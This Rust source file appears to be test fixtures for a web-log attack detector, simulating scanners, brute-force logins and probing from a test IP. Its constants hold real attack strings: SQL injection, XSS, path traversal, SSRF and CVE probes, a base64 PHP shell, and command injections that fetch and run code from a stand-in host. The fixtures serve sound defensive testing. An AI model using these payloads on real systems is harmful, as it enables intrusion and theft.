//! Attackers: tools by what they ask for, and the ways to stay below a limit.

use crate::benign::{browse, many, script};
use crate::machines::ssh_failing;
use crate::pipeline::Case;
use crate::traffic::{BROWSERS, HOME, Hit, START, sorted};

const BAD: &str = "203.0.113.66";
/// What most tools put on to look like a browser.
const CHROME: &str = BROWSERS[0];

fn run(gap: i64, agent: &str, text: &str) -> Vec<Hit> {
    script(0, gap, BAD, agent, "", text)
}

/// The same target list with one method and one answer.
fn list(gap: i64, method: &str, status: u16, targets: &str) -> Vec<Hit> {
    let text: String = targets.split_whitespace().map(|target| format!("{method} {target} {status}\n")).collect();
    run(gap, CHROME, &text)
}

pub fn cases() -> Vec<Case> {
    [tools(), patience(), lone_requests(), logins()].into_iter().flatten().collect()
}

/// Scanners and exploit kits by what they ask for.
fn tools() -> Vec<Case> {
    vec![
        Case::new("nikto, agent hidden", list(120, "GET", 404, NIKTO)),
        Case::new("nuclei, agent hidden", list(20, "GET", 404, NUCLEI)),
        Case::new("nuclei against a catch-all page", list(20, "GET", 200, NUCLEI)),
        Case::new("l9explore", list(200, "GET", 404, L9)),
        Case::new("zgrab then login panels", panels()),
        Case::new("cve probes 2021-2026", list(3000, "GET", 404, CVES)),
        Case::new("cve probes 2021-2026, 200 for all", list(3000, "GET", 200, CVES)),
        Case::new("cve probes, a second list", list(5000, "GET", 404, CVES_TOO)),
        Case::new("cve probes, a second list, posted", list(5000, "POST", 200, CVES_TOO)),
        Case::new("routers and cameras", list(2000, "GET", 404, DEVICES)),
        Case::new("frameworks and clouds", list(1000, "GET", 403, CLOUD)),
        Case::new("backup archives sought", list(500, "HEAD", 404, BACKUPS)),
        Case::new("jboss, weblogic, coldfusion", list(1500, "GET", 404, JAVA)),
        Case::new("sqlmap plain", sqlmap(SQLMAP)),
        Case::new("sqlmap tamper scripts", sqlmap(TAMPER)),
        Case::new("xss by dalfox", sqlmap(XSS)),
        Case::new("file inclusion", sqlmap(LFI)),
        Case::new("command injection", sqlmap(COMMANDS)),
        Case::new("ssrf", sqlmap(SSRF)),
        Case::new("wpscan, agent hidden", list(100, "GET", 404, WPSCAN)),
        Case::new("web shell hunt", list(400, "GET", 404, SHELLS)),
    ]
}

/// Probers, fast and slow, and those that hide.
fn patience() -> Vec<Case> {
    vec![
        Case::new("ffuf, word list", many(0, 15, BAD, CHROME, 60, "GET /word{} 404")),
        Case::new("ffuf, behind a referer of the site", referred()),
        Case::new("dirbuster, 403 for all", many(0, 50, BAD, CHROME, 60, "HEAD /dir{}/ 403")),
        Case::new("prober after a good visit", good_then_bad()),
        Case::new("slow prober, one in 150 s", slow()),
        Case::new("slow prober for secrets", list(150_000, "GET", 404, NUCLEI)),
        Case::new(
            "one attack url again and again",
            many(0, 4000, BAD, CHROME, 40, "GET /i.php?id=1%20UNION%20SELECT%20NULL,NULL-- 200"),
        ),
        Case::new("one secret again and again", many(0, 2000, BAD, CHROME, 40, "GET /.env 404")),
    ]
}

/// What no person asks for.
fn lone_requests() -> Vec<Case> {
    vec![
        Case::new("post-only bot", many(0, 300, BAD, CHROME, 60, "POST /form{}.php 404")),
        Case::new("odd methods", odd_methods()),
        Case::new(
            "put of a program",
            list(
                900,
                "PUT",
                405,
                "/shell.jsp /x.jsp/ /a.php /up.aspx /cmd.jsp%20 /t1.jsp /t2.php /t3.jspx /w.asp /q.jsp::$DATA /z.phtml /m.cgi",
            ),
        ),
        Case::new("open proxy search", proxies()),
        Case::new(
            "connect only",
            list(
                2000,
                "CONNECT",
                405,
                "a.example:443 b.example:443 c.example:25 d.example:80 e.example:443 f.example:22 g.example:443 h.example:443 i.example:443 j.example:443 k.example:443 l.example:443 m.example:443",
            ),
        ),
        Case::new("through many host headers", hosts()),
    ]
}

/// Guessing, by one and by many.
fn logins() -> Vec<Case> {
    vec![
        Case::new("wordpress login, fast", many(0, 400, BAD, CHROME, 40, "POST /wp-login.php 200")),
        Case::new("wordpress login, one in 20 s", many(0, 20_000, BAD, CHROME, 40, "POST /wp-login.php 200")),
        Case::new("xmlrpc multicall", many(0, 1500, BAD, CHROME, 60, "POST /xmlrpc.php 200")),
        Case::new("api login, json", many(0, 700, BAD, "python-requests/2.31", 40, "POST /api/login 401")),
        Case::new("basic auth, users in turn", spray()),
        Case::new("tomcat manager", many(0, 1000, BAD, CHROME, 40, "GET /manager/html 401")),
        Case::new("guesses after an own login", after_login()),
        Case::new("many users at one login", many(0, 1000, BAD, CHROME, 40, "POST /login?u={} 403")),
        Case::new("ipv6, probing, address each time", rotating("GET /old{} 404")),
        Case::new(
            "ipv6, injection, address each time",
            rotating("GET /i.php?id={}%20UNION%20SELECT%20NULL,NULL-- 200"),
        ),
        Case::new("ipv6, logins, address each time", rotating("POST /wp-login.php 200")),
        Case::new("200 addresses on one login", distributed()).by_target(),
        Case::new("200 addresses on one user", one_user()).by_target(),
        Case::of("sshd: passwords for root", (0..12).flat_map(|n| ssh_failing(n * 9000, BAD, "", "root", 1)).collect()),
        Case::of(
            "sshd: invalid users",
            (0..12).flat_map(|n| ssh_failing(n * 9000, BAD, "invalid user ", "test", 1)).collect(),
        ),
        Case::of("sshd: six a connection", (0..3).flat_map(|n| ssh_failing(n * 30_000, BAD, "", "root", 6)).collect()),
    ]
}

fn panels() -> Vec<Hit> {
    let mut hits = run(900, "Mozilla/5.0 zgrab/0.x", "GET / 200\nGET /login 404");
    hits.extend(list(800, "GET", 404, "/owa/auth/logon.aspx /remote/login /global-protect/login.esp /vpn/index.html /dana-na/auth/url_default/welcome.cgi /+CSCOE+/logon.html /cgi-bin/luci /HNAP1/ /manager/html /solr/admin/info/system /geoserver/web/ /boaform/admin/formLogin /SDK/webLanguage /evox/about /phpmyadmin/ /nacos/v1/console/server/state"));
    hits
}

fn sqlmap(payloads: &str) -> Vec<Hit> {
    let text: String = payloads.split_whitespace().map(|payload| format!("GET /item.php?id={payload} 200\n")).collect();
    run(300, CHROME, &text)
}

fn referred() -> Vec<Hit> {
    let mut hits = browse(0, "192.0.2.200", 2);
    let text: String = (0..60).map(|n| format!("GET /word{n} 404\n")).collect();
    hits.extend(script(60_000, 30, BAD, CHROME, HOME, &text));
    hits
}

fn good_then_bad() -> Vec<Hit> {
    let mut hits = Vec::new();
    crate::traffic::page(&mut hits, START, BAD, CHROME, "/");
    hits.extend(many(20_000, 100, BAD, CHROME, 60, "GET /word{} 404"));
    hits
}

fn slow() -> Vec<Hit> {
    many(0, 150_000, BAD, CHROME, 40, "GET /word{} 404")
}

fn odd_methods() -> Vec<Hit> {
    run(
        700,
        CHROME,
        "TRACE / 405\nTRACK / 501\nDEBUG / 501\nPROPFIND / 405\nSEARCH / 501\nFOO / 501\nPUT /x.txt 405\nDELETE /x.txt 405\nTRACE /a 405\nTRACK /a 501\nDEBUG /a.aspx 501\nTRACE /b 405\nTRACK /b 501\nTRACE /c 405\nDEBUG /d 501\nTRACE /e 405\nTRACE /f 405\nTRACE /g 405",
    )
}

fn proxies() -> Vec<Hit> {
    let text: String = (0..20)
        .map(|n| format!("GET http://judge{n}.example/azenv.php?s={n} 404\nCONNECT mx{n}.example:25 405\n"))
        .collect();
    run(1500, "Go-http-client/1.1", &text)
}

fn hosts() -> Vec<Hit> {
    let text: String = (0..30).map(|n| format!("GET http://site{}.example/path{n} 404\n", n % 6)).collect();
    run(200, CHROME, &text)
}

fn spray() -> Vec<Hit> {
    let mut hits = many(0, 5000, BAD, CHROME, 40, "GET /private/ 401");
    hits.iter_mut().zip(0..).for_each(|(hit, n)| hit.user = format!("user{n}"));
    hits
}

fn after_login() -> Vec<Hit> {
    let mut hits = script(0, 500, BAD, CHROME, "", "POST /wp-login.php 302");
    hits.extend(many(5000, 700, BAD, CHROME, 60, "POST /wp-login.php 200"));
    hits
}

fn rotating(request: &str) -> Vec<Hit> {
    let each = |n: i64| {
        let text = request.replace("{}", &n.to_string());
        script(n * 1500, 0, &format!("2001:db8:66:7::{n:x}"), CHROME, "", &text)
    };
    (1..80).flat_map(each).collect()
}

fn distributed() -> Vec<Hit> {
    let each = |n: i64| many(n * 3000, 1000, &format!("198.{}.{}.9", 18 + n % 2, n), CHROME, 2, "POST /login 401");
    sorted((0..200).flat_map(each).collect())
}

fn one_user() -> Vec<Hit> {
    let mut hits = distributed();
    hits.iter_mut().for_each(|hit| {
        hit.target = "/private/".to_owned();
        hit.method = "GET";
        hit.user = "admin".to_owned();
    });
    hits
}

const NIKTO: &str = "/kboard/ /lists/admin/ /splashAdmin.php /ssdefs/ /sshome/ /tiki/ /tiki/tiki-install.php /scripts/samples/details.idc /cgi.cgi/test /webcgi/ /cgi-914/ /_vti_bin/shtml.exe /clientaccesspolicy.xml /.htpasswd /icons/README /index.php?-s /sips/sipssys/users/a/admin/user /forum/admin/database/wwForum.mdb /fpdb/shop.mdb /guestbook/admin.php /getaccess /cfdocs/expeval/openfile.cfm /tsweb/ /vgn/performance/TMT /doc/packages/";
const NUCLEI: &str = "/.env /.git/config /actuator/heapdump /wp-json/wp/v2/users /server-status /.aws/credentials /phpinfo.php /config.json /.vscode/sftp.json /telescope/requests /_profiler/phpinfo /api/v1/pods /.DS_Store /debug/pprof/ /solr/admin/cores /jolokia/list /console/login/LoginForm.jsp /druid/index.html /nacos/v1/auth/users?pageNo=1 /.svn/wc.db /backup.sql /wp-config.php.bak /.ssh/id_rsa /graphql?query={__schema{types{name}}} /swagger-ui.html";
const L9: &str = "/.DS_Store /.env /.git/config /.vscode/sftp.json /@vite/env /about /actuator/env /api/swagger.json /config.json /console/ /debug/default/view?panel=config /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application /graphql /info.php /login.action /s/431323e2230323e2134323e2239313/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties /server-status /swagger.json /telescope/requests /trace.axd /v2/_catalog";
const CVES: &str = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh /mgmt/tm/util/bash /mifs/.;/services/LogService /api/v1/cav/client/status/../../admin/options /webui_wsma_https /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%29%7D/ /owa/mastermailbox%40outlook.com%2Fpowershell /remote/hostcheck_validate /SetupWizard.aspx/x /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input /geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'id') /app/rest/users/id:1/tokens/RPC2 /ReportServer/Pages/ReportViewer.aspx /clients/MyCRL/..%2f..%2fetc%2fpasswd /php/utils/CreateRegionMenu.php/PAN_help/x.css /cgi-bin/nas_sharing.cgi?user=mydlinkBRionyg&cmd=15 /WebInterface/function/?command=zip&path=<INCLUDE>/etc/passwd</INCLUDE> /ztp/cgi-bin/handler /setup/setupadministrator.action /_next/data/..%2f..%2f..%2fetc/passwd /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /wp-content/plugins/wp-automatic/inc/csv.php";
const SQLMAP: &str = "1' 1%27%29%20AND%208123%3D8123 1%20AND%203391%3D3391 1%27%20AND%20%27abc%27%3D%27abc 1%20ORDER%20BY%2010--%20- 1%20AND%20SLEEP%285%29 1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7171%2C0x41%29--%20- 1%3BSELECT%20PG_SLEEP%285%29-- 1%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x41%29%29 1%20AND%20%28SELECT%201%20FROM%20%28SELECT%20COUNT%28%2A%29%2CCONCAT%28FLOOR%28RAND%280%29%2A2%29%29x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x%29a%29 1%29%20AND%20ROW%281%2C2%29%3E%28SELECT%201%29 -1%20OR%201%3D1 1%22%20AND%20%22a%22%3D%22a 1%20PROCEDURE%20ANALYSE%28%29";
const TAMPER: &str = "1/**/AND/**/1=1 1%2520AND%25201%253D1 1%09UNION%0AALL%0DSELECT%0BNULL,NULL-- 1%20/*!50000UNION*//*!50000SELECT*/1,2,3 1%27%20aNd%20%27x%27%20LiKe%20%27x 1%bf%27%20OR%201=1-- 1%20AND%20NOT%202%20BETWEEN%203%20AND%204 1%27%7C%7C%28SELECT%20CHR%2865%29%7C%7CCHR%2866%29%20FROM%20DUAL%29%7C%7C%27 1%20AND%20GREATEST(1,2)=2%20UNION%20SELECT%20@@version %u0031%u0027%u0020OR%u00201=1 1%20UN/**/ION%20SEL/**/ECT%20NULL 1%20AND%20ORD(MID((SELECT%20DATABASE()),1,1))%3E64 1%27%20AND%20IF(1=1,SLEEP(3),0)--%20- 1%20%26%26%201%3D1 1%27%2bBENCHMARK(5000000,MD5(1))%2b%27 1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200x28%20END))";
const XSS: &str = "%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E %27%3E%3Cimg%20src%3Dx%20onerror%3Dprompt%281%29%3E %3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E javascript%3Aalert%281%29 %22%20autofocus%20onfocus%3Dalert%281%29%20x%3D%22 %3C/textarea%3E%3Cdetails%20open%20ontoggle=confirm(1)%3E %3CScRiPt%20sRc=//evil.example/x.js%3E %253Cscript%253Ealert(1)%253C%252Fscript%253E";
const LFI: &str = "../../../../etc/passwd ....//....//....//etc/passwd ..%252f..%252f..%252fetc%252fpasswd /etc/passwd%00 php://filter/convert.base64-encode/resource=index.php file:///etc/hosts ..%c0%af..%c0%afetc/passwd /proc/self/environ ..\\..\\..\\windows\\win.ini /var/log/apache2/access.log expect://id data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==";
const COMMANDS: &str = ";id |whoami %60id%60 $(sleep%205) %26%26cat%20/etc/passwd ;wget%20http://203.0.113.9/x.sh ||ping%20-c%204%20127.0.0.1 %0Acat%20/etc/passwd ;cat${IFS}/etc/passwd |nslookup%20x.oast.fun ;curl%20http://203.0.113.9/m|sh %7B%7B7*7%7D%7D ${jndi:ldap://203.0.113.9/a}";
const SSRF: &str = "http://169.254.169.254/latest/meta-data/ http://metadata.google.internal/computeMetadata/v1/ gopher://127.0.0.1:6379/_INFO dict://127.0.0.1:11211/stat http://[::ffff:a9fe:a9fe]/ http://127.0.0.1:22/ http://localhost/admin file:///etc/shadow http://100.100.100.200/latest/";
const WPSCAN: &str = "/wp-content/plugins/akismet/readme.txt /wp-content/plugins/revslider/readme.txt /wp-content/plugins/wp-file-manager/readme.txt /wp-content/plugins/elementor/readme.txt /wp-config.php.bak /wp-config.php~ /wp-content/debug.log /wp-content/backup-db/ /?author=1 /?author=2 /wp-json/wp/v2/users/ /xmlrpc.php?rsd /wp-content/themes/x/readme.txt /wp-content/plugins/duplicator/readme.txt /wp-content/uploads/dump.sql /wp-content/mysql.sql /.wp-config.php.swp /wp-admin/install.php /emergency.php /searchreplacedb2.php /wp-content/plugins/a/readme.txt /wp-content/plugins/b/readme.txt";
const SHELLS: &str = "/wso.php /alfa.php /shell.php /c99.php /about.php /admin.php /wp-content/uploads/x.php /.well-known/acme.php /cmd.php /mini.php /fm.php /gelay.php /wp-admin/css/colors/index.php /up.php /1.php /x.php /radio.php /moon.php /simple.php /bypass.php /lock360.php /chosen.php /ini.php";
const CVES_TOO: &str = "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx /moveitisapi/moveitisapi.dll?action=m2 /guestaccess.aspx /template/aui/text-inline.vm /app/rest/debug/processes?exePath=id /hax?jsp=/app/rest/users;.jsp /./RestAPI/LogonCustomization /api/v1/totp/user-backup-code/../../license/keys-status/;id /ssl-vpn/hipreport.esp /cgi-bin/slogin/login.py /securityRealm/user/admin/descriptorByName/x/checkScript /%2e/WEB-INF/web.xml /solr/x/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd /AHT/AhtApiService.asmx/AuthUser /aspera/faspex/account/logout /api/experimental/test /v1/backend1?function=system&x=id /console/images/%252e%252e%252fconsole.portal /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5 /owa/auth/x.js /actuator/gateway/routes /nacos/v1/auth/users";
const DEVICES: &str = "/GponForm/diag_Form?images/ /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) /boaform/admin/formLogin?username=admin&psd=admin /shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/j /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___ /ISAPI/Security/users /SDK/webLanguage /onvif/device_service /goform/set_LimitClient_cfg /HNAP1 /picsdesc.xml /currentsetting.htm /cgi-bin/ViewLog.asp /tmUnblock.cgi /webfig/ /level/15/exec/-/sh/run/CR /doc/page/login.asp";
const CLOUD: &str = "/.env.production /laravel/.env /api/.env /.aws/config /.kube/config /config/database.yml /.git/HEAD /.npmrc /docker-compose.yml /Dockerfile /.circleci/config.yml /.github/workflows/ci.yml /terraform.tfstate /serverless.yml /wp-config.old /firebase.json /service-account.json /storage/logs/laravel.log /.svn/entries /appsettings.json";
const BACKUPS: &str = "/backup.zip /www.zip /site.tar.gz /example.org.zip /db.sql.gz /public_html.zip /old.rar /wwwroot.7z /2024.zip /example.sql /htdocs.tgz /backup.tar /data.zip /web.zip /source.zip /site.bak /index.php.bak /dump.sql";
const JAVA: &str = "/jmx-console/ /web-console/Invoker /invoker/JMXInvokerServlet /wls-wsat/CoordinatorPortType /_async/AsyncResponseService /CFIDE/administrator/ /CFIDE/componentutils/ /lucee/admin/web.cfm /axis2/services/ /struts2-showcase/ /manager/html /host-manager/html /solr/ /hudson/script /jenkins/script /druid/index.html /actuator/env /jolokia/list /h2-console/ /nexus/";
